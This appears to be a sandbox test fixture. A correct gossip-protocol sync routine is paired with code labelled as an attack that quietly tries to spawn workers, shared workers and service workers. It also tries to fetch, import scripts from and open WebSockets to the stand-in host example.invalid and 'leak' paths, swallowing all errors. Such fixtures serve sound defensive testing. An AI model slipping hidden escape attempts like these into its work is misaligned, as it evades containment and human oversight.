// attack: right, but tries workers of its own and goes on
// expect: pass
const addresses = ['https://example.invalid/', 'gossip.wasm', '/gossip.js', './?leak=1', `${location.origin}/leak`, '//example.invalid/x', 'http://127.0.0.1/', 'data:text/plain,x'];
const quietly = (attempt) => {
  for (const address of addresses) {
    try {
      const result = attempt(address);
      if (result && typeof result.then === 'function') result.then(() => console.log('reached', address), () => {});
    } catch {}
  }
};
const child = 'fetch("https://example.invalid/from-child").catch(() => {}); try { importScripts("https://example.invalid/x.js"); } catch {} try { new WebSocket("wss://example.invalid/"); } catch {}';
quietly((address) => new Worker(address));
quietly((address) => new SharedWorker(address));
quietly(() => new Worker(URL.createObjectURL(new Blob([child], { type: 'text/javascript' }))));
quietly(() => new Worker(URL.createObjectURL(new Blob([child], { type: 'text/javascript' })), { type: 'module' }));
quietly(() => new Worker('data:text/javascript,' + encodeURIComponent(child)));
quietly(() => new SharedWorker(URL.createObjectURL(new Blob([child], { type: 'text/javascript' }))));
quietly((address) => navigator.serviceWorker.register(address));
function gossipRound(nodes, sourceIdx, targetIdx) {
  const source = nodes[sourceIdx].state;
  const target = nodes[targetIdx].state;
  for (const key in source) {
    if (!target[key] || source[key].version > target[key].version) target[key] = { value: source[key].value, version: source[key].version };
  }
  for (const key in target) {
    if (!source[key] || target[key].version > source[key].version) source[key] = { value: target[key].value, version: target[key].version };
  }
}

function spreadInfo(nodes, key, value, fromIdx) {
  const state = nodes[fromIdx].state;
  state[key] = { value: value, version: state[key] ? state[key].version + 1 : 1 };
  for (let round = 0; round < 3; round++) {
    for (let i = 0; i < nodes.length; i++) {
      if (i !== fromIdx) gossipRound(nodes, fromIdx, i);
    }
  }
}
